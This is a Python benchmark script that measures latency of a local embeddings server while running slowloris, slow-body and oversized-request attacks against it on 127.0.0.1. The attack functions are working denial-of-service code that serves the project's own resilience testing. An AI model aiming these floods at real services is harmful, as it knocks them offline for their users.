#!/usr/bin/env python3
"""Normal traffic against qwen3-embed serve, unloaded and then while hostile clients attack it.

Two roles, run as separate processes so the attackers' work never delays the measuring client's
event loop:

  attack.py measure --port P --rate R --seconds S    one-sentence POST /v1/embeddings at a fixed
                                                      arrival rate on keep-alive connections; prints
                                                      one JSON line: p50/p90/p99/max latency, counts
  attack.py attack --port P [--slowloris N] [--slow-body N] [--oversized N] [--oversized-mb M]
                                                      runs until SIGTERM, then prints one JSON line of
                                                      what the attackers saw

Attacks:
  slowloris   N sockets that send a request head one byte every few seconds (and idle sockets that
              send nothing), reconnecting whenever the server closes them
  slow body   N sockets that send a complete head announcing 100 kB, then one body byte every few
              seconds, reconnecting when closed
  oversized   N clients that each send an M MB body whole before reading (as Python's requests and
              the openai client do), read the answer (413) and start again, every 0.5 s

Only the standard library; Benchmarks/load/attack.sh runs the whole scenario.
"""
import argparse
import asyncio
import json
import signal
import statistics
import sys
import time

BODY = json.dumps({"input": "The capital of China is Beijing."}).encode()


async def read_response(reader):
    """Reads one HTTP/1.1 response with Content-Length; returns (status, headers, body)."""
    head = await reader.readuntil(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    status = int(lines[0].split(" ")[1])
    headers = {}
    for line in lines[1:]:
        if ":" in line:
            name, value = line.split(":", 1)
            headers[name.strip().lower()] = value.strip()
    body = await reader.readexactly(int(headers.get("content-length", "0")))
    return status, headers, body


class Connection:
    def __init__(self, port):
        self.port = port
        self.reader = None
        self.writer = None

    async def request(self, path, body):
        if self.writer is None:
            self.reader, self.writer = await asyncio.open_connection("127.0.0.1", self.port)
        self.writer.write(
            b"POST " + path.encode() + b" HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
            + b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
        await self.writer.drain()
        status, headers, _ = await read_response(self.reader)
        if headers.get("connection") == "close":
            self.writer.close()
            self.writer = None
        return status


async def measure(port, rate, seconds):
    """Fixed arrival rate (open loop): latency counts from the scheduled send, so a stalled server
    shows up as latency, not as a lower request rate."""
    idle = []
    latencies = []
    statuses = {}
    errors = 0
    tasks = set()

    async def one(scheduled):
        nonlocal errors
        connection = idle.pop() if idle else Connection(port)
        try:
            status = await connection.request("/v1/embeddings", BODY)
            latencies.append(time.monotonic() - scheduled)
            statuses[status] = statuses.get(status, 0) + 1
            idle.append(connection)
        except Exception:
            errors += 1

    start = time.monotonic()
    count = int(rate * seconds)
    for index in range(count):
        scheduled = start + index / rate
        delay = scheduled - time.monotonic()
        if delay > 0:
            await asyncio.sleep(delay)
        task = asyncio.create_task(one(scheduled))
        tasks.add(task)
        task.add_done_callback(tasks.discard)
    await asyncio.gather(*tasks)
    latencies.sort()

    def percentile(p):
        return latencies[min(len(latencies) - 1, int(round(p / 100 * (len(latencies) - 1))))] * 1000 if latencies else None

    print(json.dumps({
        "requests": count, "completed": len(latencies), "errors": errors,
        "statuses": {str(k): v for k, v in sorted(statuses.items())},
        "p50_ms": percentile(50), "p90_ms": percentile(90), "p99_ms": percentile(99),
        "max_ms": latencies[-1] * 1000 if latencies else None,
        "mean_ms": statistics.fmean(latencies) * 1000 if latencies else None,
    }), flush=True)


class Stats:
    def __init__(self):
        self.connections = 0
        self.closed_by_server = 0
        self.statuses = {}
        self.send_failures = 0

    def status(self, code):
        self.statuses[str(code)] = self.statuses.get(str(code), 0) + 1


async def slowloris(port, stats, stop, send_bytes):
    """One socket that dribbles a request head (or, without send_bytes, sends nothing)."""
    head = b"POST /v1/embeddings HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Padding: " + b"a" * 10_000
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.5)
            continue
        stats.connections += 1
        try:
            for index in range(len(head)):
                if send_bytes:
                    writer.write(head[index:index + 1])
                    await writer.drain()
                # Wakes early when the server closes: a read returns (a 408 or end of stream).
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=5)
                except asyncio.TimeoutError:
                    continue
                if data.startswith(b"HTTP/1.1 "):
                    stats.status(int(data.split(b" ")[1]))
                stats.closed_by_server += 1
                break
        except (OSError, asyncio.IncompleteReadError):
            stats.closed_by_server += 1
        finally:
            writer.close()
        if stop.is_set():
            break


async def slow_body(port, stats, stop):
    """One socket that sends a full head announcing 100 kB, then a body byte every few seconds."""
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
        except OSError:
            await asyncio.sleep(0.5)
            continue
        stats.connections += 1
        try:
            writer.write(b"POST /v1/embeddings HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                         b"Content-Length: 100000\r\n\r\n")
            await writer.drain()
            while True:
                writer.write(b" ")
                await writer.drain()
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=5)
                except asyncio.TimeoutError:
                    continue
                if data.startswith(b"HTTP/1.1 "):
                    stats.status(int(data.split(b" ")[1]))
                stats.closed_by_server += 1
                break
        except (OSError, asyncio.IncompleteReadError):
            stats.closed_by_server += 1
        finally:
            writer.close()


async def oversized(port, stats, stop, megabytes, interval):
    """Sends an oversized body whole before reading, reads the answer, repeats every `interval`
    seconds (paced: unpaced, loopback would make it a bandwidth flood of gigabytes per second, which
    no server can receive for free, and the attacking process would take the CPU the server needs)."""
    body = b" " * (megabytes * 1024 * 1024)
    while not stop.is_set():
        started = time.monotonic()
        try:
            reader, writer = await asyncio.open_connection("127.0.0.1", port)
            stats.connections += 1
            writer.write(b"POST /v1/embeddings HTTP/1.1\r\nHost: 127.0.0.1\r\nContent-Type: application/json\r\n"
                         + b"Content-Length: " + str(len(body)).encode() + b"\r\n\r\n" + body)
            await writer.drain()
            status, _, _ = await asyncio.wait_for(read_response(reader), timeout=60)
            stats.status(status)
            writer.close()
        except (OSError, asyncio.IncompleteReadError, asyncio.TimeoutError):
            stats.send_failures += 1
        await asyncio.sleep(max(0.0, interval - (time.monotonic() - started)))


async def attack(port, slowloris_count, slow_body_count, oversized_count, megabytes, interval):
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    loop.add_signal_handler(signal.SIGTERM, stop.set)
    loop.add_signal_handler(signal.SIGINT, stop.set)
    stats = {name: Stats() for name in ("slowloris", "idle", "slow_body", "oversized")}
    tasks = [asyncio.create_task(slowloris(port, stats["slowloris"], stop, True)) for _ in range(slowloris_count // 2)]
    tasks += [asyncio.create_task(slowloris(port, stats["idle"], stop, False)) for _ in range(slowloris_count - slowloris_count // 2)]
    tasks += [asyncio.create_task(slow_body(port, stats["slow_body"], stop)) for _ in range(slow_body_count)]
    tasks += [asyncio.create_task(oversized(port, stats["oversized"], stop, megabytes, interval)) for _ in range(oversized_count)]
    print(json.dumps({"attack": "started", "sockets": slowloris_count + slow_body_count + oversized_count}), flush=True)
    await stop.wait()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps({name: vars(value) for name, value in stats.items()}), flush=True)


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = parser.add_subparsers(dest="role", required=True)
    m = sub.add_parser("measure")
    m.add_argument("--port", type=int, required=True)
    m.add_argument("--rate", type=float, default=50)
    m.add_argument("--seconds", type=float, default=30)
    a = sub.add_parser("attack")
    a.add_argument("--port", type=int, required=True)
    a.add_argument("--slowloris", type=int, default=600)
    a.add_argument("--slow-body", type=int, default=200)
    a.add_argument("--oversized", type=int, default=4)
    a.add_argument("--oversized-mb", type=int, default=8)
    a.add_argument("--oversized-interval", type=float, default=0.5)
    args = parser.parse_args()
    if args.role == "measure":
        asyncio.run(measure(args.port, args.rate, args.seconds))
    else:
        asyncio.run(attack(args.port, args.slowloris, args.slow_body, args.oversized, args.oversized_mb, args.oversized_interval))


if __name__ == "__main__":
    sys.exit(main())
